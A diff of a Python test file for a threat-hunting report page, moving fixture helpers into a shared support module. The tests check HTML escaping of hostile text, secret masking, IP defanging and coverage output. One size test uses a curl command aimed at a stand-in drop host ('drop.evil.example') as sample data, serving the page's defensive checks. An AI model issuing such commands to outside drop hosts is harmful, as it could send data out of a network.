@@ -15,63 +15,19 @@ from msgspec.structs import replace
 
 from shared.kql.portal import portal_link
 from shared.kql.write import fleet_query
-from shared.model.outcome import Outcome, Window
-from shared.model.record import CommentResult, Done, Plan, PlannedHunt, Run, Wait, Work
+from shared.model.outcome import Outcome
+from shared.model.record import CommentResult, Plan, Run, Wait
 from shared.pages.layout import STYLE_HASH
 from shared.settings import Settings
-from shared.sweep import ending
-from shared.sweep.fleet import Fleet
 from shared.sweep.parts import Part
-from shared.sweep.report import Swept, render_sweep
-from shared.sweep.summary import Day, Destination, Lost, NewRow, Process, SweepSummary
-from tests.comment.test_neutral import NASTY, unseen
-from tests.functions.test_functions import cloud, finished, http  # noqa: F401  (fixtures)
-from tests.support.said import HUNTS, NOW, RUN_ID, Tags
+from shared.sweep.report import render_sweep
+from shared.sweep.summary import Day, Lost, SweepSummary
+from tests.support.hostile import NASTY, unseen
+from tests.support.said import HUNTS, NOW, Tags
+from tests.support.sweep_pages import QUARTERS, new_row, sweep_summary, sweep_work, swept
 from tests.support.sweeping import ARCHIVES, DESKTOPS, SERVERS
 
 SECRET = "hunter2secret"
-WEEK = Window(NOW - timedelta(days=7), NOW)
-TIME = "2026-03-10T02:14:05.1234567Z"
-QUARTERS = [(Part(first, first + 63), 90_000) for first in range(0, 256, 64)]
-
-
-def row(text: str = "x", process: str = "curl", rarity: int = 1) -> NewRow:
-    """A new row whose free texts are *text*."""
-    details = {"Protocol": "Tcp", "NetCmd": f"{process} --silent --show-error {text}"}
-    return NewRow(
-        text, "a" * 40, process, text, (text,), details, 3, TIME, TIME, rarity, 1, 1, rarity
-    )  # fmt: skip
-
-
-def summary(
-    hunt: str = SERVERS, text: str = "x", rows: int = 12, lost: tuple[Lost, ...] = ()
-) -> SweepSummary:
-    """A hunt's summary whose free texts are *text*."""
-    return SweepSummary(
-        hunt, "A title", "id", "1.0.0", WEEK, NOW - timedelta(days=1), 400, 1 - sum(each.share for each in lost), 4, lost,
-        rows=12_345, devices=380, destinations=900, new_rows=rows, new_devices=7, new_destinations=rows, first_destinations=3,
-        days=tuple(Day(WEEK.start + timedelta(days=n), 90 - 10 * n, 90 * n) for n in range(7)),
-        processes=(Process(text, 1_000, 80, 70), Process("x", 1, 1, 1)),
-        rarest=(Destination(text, 1, 1, TIME, TIME, (text,), (text,), new=True),),
-        ranked=tuple(row(text, f"tool-{n}", n + 1) for n in range(min(rows, 1_000))),
-    )  # fmt: skip
-
-
-def swept(
-    *summaries: SweepSummary, parts: list[tuple[Part, int]] | None = None
-) -> tuple[Run, dict[str, Swept]]:
-    """A sweep that is done, and its hunts' summaries."""
-    outcomes = [ending.sweep_outcome(each, Fleet()) for each in summaries]
-    status = ending.sweep_status(outcomes, ending.coverage(summaries), ())
-    done = Done(status, ending.sweep_verdict(summaries, outcomes), NOW, tuple(outcomes))
-    plan = Plan(hunts=tuple(PlannedHunt(each.hunt, WEEK) for each in summaries))
-    whole = parts or [(Part(), 12_345)]
-    return Run(work(), plan, done=done), {each.hunt: Swept(each, whole) for each in summaries}
-
-
-def work() -> Work:
-    """What a sweep is asked to do."""
-    return Work(RUN_ID, NOW, "", queue="sweeps", kind="sweep")
 
 
 def page(*summaries: SweepSummary, mask: str = "on", parts: list[tuple[Part, int]] | None = None) -> str:
@@ -81,7 +37,7 @@ def page(*summaries: SweepSummary, mask: str = "on", parts: list[tuple[Part, int
 
 def nasty(text: str) -> str:
     """A page on which every free text is *text*."""
-    each = summary(text=text, lost=(Lost("00-0f", 1 / 16, text),))
+    each = sweep_summary(text=text, lost=(Lost("00-0f", 1 / 16, text),))
     run, hunts = swept(each)
     assert run.done
     skipped = Outcome("gone", "gone", "notRun", text)
@@ -107,7 +63,7 @@ def test_markup(text: str) -> None:
 
 def test_style() -> None:
     """The page's one style is the one that the policy allows, and no element has one of its own."""
-    content = page(summary())
+    content = page(sweep_summary())
     styles = re.findall(r"<style>(.*?)</style>", content, re.DOTALL)
     hashes = [base64.b64encode(hashlib.sha256(style.encode()).digest()).decode() for style in styles]
 
@@ -119,7 +75,7 @@ def test_style() -> None:
 @pytest.mark.parametrize("mask", ["on", "off"])
 def test_masks(mask: str) -> None:
     """The page shows what looks like a secret only with MASK_SECRETS=off."""
-    content = page(summary(text=f"--password={SECRET}", rows=1), mask=mask)
+    content = page(sweep_summary(text=f"--password={SECRET}", rows=1), mask=mask)
 
     # Of the row, the device, destination, port and command line; of the rarest, the destination, a device, a process;
     # and a process of the top ones.
@@ -128,10 +84,10 @@ def test_masks(mask: str) -> None:
 
 def test_rarest_first() -> None:
     """First come ten rows, the rarest, of which at most three are of one process; the others stand behind them."""
-    browsing = tuple(row(f"192.0.2.{n}", "firefox", 700) for n in range(40))
-    few = tuple(row(f"203.0.113.{n}", f"tool-{n}", n) for n in range(4))
-    ranked = (*few, *browsing, *(row(f"198.51.100.{n}", f"agent-{n}", 900) for n in range(9)))
-    content = page(replace(summary(), ranked=ranked, new_rows=len(ranked)))
+    browsing = tuple(new_row(f"192.0.2.{n}", "firefox", 700) for n in range(40))
+    few = tuple(new_row(f"203.0.113.{n}", f"tool-{n}", n) for n in range(4))
+    ranked = (*few, *browsing, *(new_row(f"198.51.100.{n}", f"agent-{n}", 900) for n in range(9)))
+    content = page(replace(sweep_summary(), ranked=ranked, new_rows=len(ranked)))
     rows = re.findall(r'<td class="value">([0-9.\[\]]+)<div', content)
 
     assert [f"203.0.113[.]{n}" for n in range(4)] + [f"192.0.2[.]{n}" for n in range(3)] == rows[:7]
@@ -145,7 +101,7 @@ def test_size() -> None:
     long = "curl -sS 'https://drop.evil.example/?q=<a&b>' " * 40
     lost = tuple(Lost(f"{n:02x}-{n:02x}", 1 / 256, "its query runs too long") for n in range(100))
     content = page(
-        *(summary(hunt, long, 1_000, lost) for hunt in (ARCHIVES, DESKTOPS, SERVERS)), parts=QUARTERS
+        *(sweep_summary(hunt, long, 1_000, lost) for hunt in (ARCHIVES, DESKTOPS, SERVERS)), parts=QUARTERS
     )
 
     assert 50 * 3 == content.count('class="below"')
@@ -160,7 +116,7 @@ def test_coverage() -> None:
         Lost("10-1f", 1 / 16, "its query runs too long"),
         Lost("20-20", 1 / 256, "Graph refuses it"),
     )
-    content = page(summary(lost=lost))
+    content = page(sweep_summary(lost=lost))
 
     said = re.findall(
         r"<div class=\"second\">(\d+ %) of the fleet.*?<td class=\"why\">(.*?)<div.*?begin with (.*?)<",
@@ -176,7 +132,7 @@ def test_coverage() -> None:
 
 def test_nothing_new() -> None:
     """A hunt with nothing new says so, and shows what the fleet does anyway."""
-    content = page(replace(summary(rows=0), ranked=()))
+    content = page(replace(sweep_summary(rows=0), ranked=()))
 
     assert "nothing new</span>" in content
     assert "New: " not in content
@@ -186,7 +142,7 @@ def test_nothing_new() -> None:
 def test_plot() -> None:
     """A bar is as high as its day has destinations, and the numbers stand below it."""
     days = (Day(NOW - timedelta(days=2), 50, 0), Day(NOW - timedelta(days=1), 20, 80))
-    content = page(replace(summary(), days=days))
+    content = page(replace(sweep_summary(), days=days))
 
     assert [("0", "50.0"), ("80.0", "20.0")] == re.findall(
         r'width="1" height="([\d.]+)"/><rect class="\w+" y="[\d.]+" width="1" height="([\d.]+)"', content
@@ -200,7 +156,7 @@ def test_links() -> None:
     assert hunt.sweep
     query = fleet_query(hunt.query, summarize=hunt.sweep.summarize, applies_to=hunt.applies_to)
     link = portal_link(query, Settings().cloud.portal)
-    one, four = Tags(page(summary())), Tags(page(summary(), parts=QUARTERS))
+    one, four = Tags(page(sweep_summary())), Tags(page(sweep_summary(), parts=QUARTERS))
     new, every = f"findings?hunt={SERVERS}&format=csv", f"findings?hunt={SERVERS}&part={{}}&format=csv"
 
     assert [f"#{SERVERS}", new, link, every.format("00-ff")] == one.links
@@ -209,7 +165,7 @@ def test_links() -> None:
 
 def test_unknown_hunt() -> None:
     """A hunt that the app no longer has is shown all the same, without its query."""
-    content = page(summary("retired-hunt"))
+    content = page(sweep_summary("retired-hunt"))
 
     assert "New: retired-hunt" in content
     assert "Advanced Hunting" not in content
@@ -220,11 +176,11 @@ def test_progress() -> None:
     wait = Wait("the tenant's CPU is used up", NOW + timedelta(minutes=15))
     hunts = [{"hunt": SERVERS, "partsDone": 3, "partsPlanned": 4, "rows": 123_456}]
     content = render_sweep(
-        Run(work(), Plan(), wait=wait), {}, HUNTS, Settings(), {"partsDone": 3, "partsPlanned": 4, "hunts": hunts}
+        Run(sweep_work(), Plan(), wait=wait), {}, HUNTS, Settings(), {"partsDone": 3, "partsPlanned": 4, "hunts": hunts}
     )  # fmt: skip
 
     assert "<h2>3 of 4 parts done</h2>" in content
     assert "<td>3 of 4</td><td>123,456</td>" in content
     assert html.escape(wait.reason, quote=False).replace("'", "&#39;") in content
     assert '<meta http-equiv="refresh" content="5">' in content
-    assert "refresh" not in page(summary())
+    assert "refresh" not in page(sweep_summary())
